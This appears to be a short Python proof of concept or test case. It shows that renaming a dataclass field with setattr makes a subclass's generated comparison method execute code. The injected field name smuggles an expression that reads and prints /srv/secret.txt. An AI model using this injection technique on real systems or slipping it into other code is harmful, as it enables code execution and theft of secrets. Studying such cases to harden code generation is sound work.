# reaches: setattr renames a data class's field, and its child's comparison runs the name
import dataclasses
@dataclasses.dataclass
class A:
    x: int = 0
for f in dataclasses.fields(A):
    setattr(f, 'name', "x,print(open('/srv/secret.txt').read())")
@dataclasses.dataclass(init=False, repr=False)
class B(A):
    pass
B() == B()
